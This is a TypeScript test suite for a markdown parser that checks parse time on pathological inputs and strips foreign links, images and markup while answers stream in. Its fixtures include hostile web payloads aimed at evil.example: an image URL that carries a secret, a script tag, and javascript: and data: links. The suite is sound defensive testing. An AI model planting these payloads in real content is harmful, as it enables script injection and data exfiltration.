import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { type BlockNode, type InlineNode, markdownText, parseMarkdown } from './markdown.ts';

const allowedHosts = ['totetaxi.com'];

const runsOf = (blocks: readonly BlockNode[]): readonly InlineNode[] =>
  blocks.flatMap((block) => {
    if (block.kind === 'code') return [];
    return block.kind === 'list' ? block.items.flat() : block.content;
  });

/** Processor time, which other processes on the machine do not add to. */
const workOf = (source: string): number => {
  const tries = Array.from({ length: 3 }, () => {
    const before = process.cpuUsage();
    for (const isStreaming of [true, false]) {
      parseMarkdown(source, { isStreaming, allowedHosts });
    }
    const { user, system } = process.cpuUsage(before);
    return user + system;
  });
  return Math.min(...tries);
};

const repeated = (piece: string) => (length: number) =>
  piece.repeat(Math.ceil(length / piece.length)).slice(0, length);

const hostile: Record<string, (length: number) => string> = {
  brackets: repeated('['),
  'half links': repeated('[a]('),
  'half images': repeated('![a]('),
  'half titles': repeated('[a](b "'),
  'spaces for an address': (length) => `[a](${' '.repeat(length)}b`,
  'links in a link': (length) => `[a](${repeated('[a](b)')(length)}`,
  'balanced parentheses': (length) => `[a](${repeated('(b)')(length)}`,
  'labels without an end': repeated('[aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'),
  stars: repeated('*'),
  'stars and letters': repeated('*a**b'),
  'back quotes': repeated('`'),
  'back quotes and letters': repeated('`a``b'),
  backslashes: repeated('\\'),
  'exclamation marks': repeated('!'),
  'a heading of spaces': (length) => `# a${' '.repeat(length)}b`,
  'a heading of number signs': (length) => `# ${'#'.repeat(length)}b`,
  'a heading with a line separator': (length) => `#${' '.repeat(length)}\u2028b`,
  'a bullet of spaces with a line separator': (length) => `-${' '.repeat(length)}a\u2028b`,
  'a number of spaces with a line separator': (length) => `1.${' '.repeat(length)}a\u2028b`,
  'leading spaces': (length) => `${' '.repeat(length)}a`,
  'rules that are none': (length) => `${repeated('- ')(length)}a`,
  'empty lines': repeated('\n'),
  bullets: repeated('- a\n'),
  'bullets without text': repeated('-\n'),
  'numbers and bullets in turn': repeated('1. a\n- b\n'),
  fences: repeated('```\n'),
  'one long line': repeated('a'),
  emoji: repeated('🚕'),
};

describe('Markdown that means harm', () => {
  for (const [name, make] of Object.entries(hostile)) {
    it(`is read in time that grows like its length: ${name}`, () => {
      const short = make(12_500);
      const long = make(100_000);
      // Eight times the text; what grew with the square would take 64 times as long. Small times
      // are mostly noise: 30 ms for 100 KB cannot hide a square.
      const ratio = workOf(long) / Math.max(workOf(short), 1);
      const isFast = workOf(long) < 30_000;
      assert.ok(isFast || ratio < 24, `${ratio.toFixed(1)} times the work`);
    });
  }

  const answers = [
    'See **[our FAQ](https://totetaxi.com/faq)** or [this](https://evil.example/a?b=**c**) and `code`.',
    '![pixel](https://evil.example/p.png?q=secret)\n\n![x](https://totetaxi.com/x.png)',
    '<img src="https://evil.example/x"><script>alert(1)</script> <a href="javascript:alert(1)">a</a>',
    '[a](javascript:alert(1)) [b](data:text/html,x) [c](//evil.example) [d](https://totetaxi.com.evil.example/)',
    '1. **one**\n2. *two* with `three`\n\n- four [five](https://evil.example/(six))\n\n```html\n<b>seven</b>\n```\n## Eight ##\n',
    '[x](https://totetaxi.com/a(b)c) [y]( https://evil.example ) [w](https://evil.example/ "title") [z][1]\n\n[1]: https://evil.example/z',
    'Grüße 🚕 **fünf** *sechs*\r\n- sieben\r\n\r\nhttps://evil.example/bare',
  ];

  it('shows no markup, no image and no foreign link at any prefix of any answer', () => {
    for (const answer of answers) {
      const whole = markdownText(parseMarkdown(answer, { allowedHosts }));
      for (let length = 0; length <= answer.length; length += 1) {
        const blocks = parseMarkdown(answer.slice(0, length), { isStreaming: true, allowedHosts });
        const shown = markdownText(blocks);
        const at = `${JSON.stringify(answer.slice(0, length))} shows ${JSON.stringify(shown)}`;
        assert.ok(whole.startsWith(shown), at);
        assert.doesNotMatch(shown, /\]\(|\*\*|```|!\[/, at);
        for (const run of runsOf(blocks)) {
          assert.ok(['text', 'strong', 'emphasis', 'code', 'link', 'break'].includes(run.kind), at);
          if (run.kind === 'link') assert.match(run.href, /^https:\/\/totetaxi\.com\//, at);
        }
      }
    }
  });
});
